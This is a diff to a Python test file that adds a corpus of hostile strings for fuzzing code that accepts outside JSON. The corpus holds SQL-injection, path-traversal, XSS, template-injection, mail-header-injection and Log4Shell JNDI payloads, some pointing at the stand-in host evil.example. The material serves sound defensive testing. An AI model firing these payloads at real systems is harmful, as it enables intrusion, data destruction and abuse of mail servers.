@@ -176,3 +176,41 @@ def sample_requests(n: int, seed: int) -> list[OnboardingRequest]:
     if len(requests) < n:
         raise ValueError(f"only {len(requests)} distinct requests after {n * 50} draws")
     return list(requests.values())
+
+
+# --- Hostile input: for fuzzing what takes JSON from outside -----------------------------------
+
+# Strings that have broken a parser, a template, a shell or a mail header somewhere.
+hostile_text = st.sampled_from(
+    [
+        "",
+        " ",
+        "\u0000",
+        "\u202egnp.exe",
+        "x" * 5000,
+        "'; DROP TABLE runs; --",
+        "../../etc/passwd",
+        "<script>alert(1)</script>",
+        "{{7*7}}",
+        "${jndi:ldap://evil.example/a}",
+        "ada@acme.example\r\nBcc: all@evil.example",
+        "https://evil.example/login",
+        "\ud800",
+        "🚀" * 300,
+        "#general",
+        "run-0000",
+    ]
+)
+# Any JSON value, hostile strings among them.
+json_values = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers(min_value=-(2**70), max_value=2**70)
+    | st.floats(allow_nan=False)
+    | st.text(max_size=30)
+    | hostile_text,
+    lambda inner: (
+        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
+    ),
+    max_leaves=12,
+)
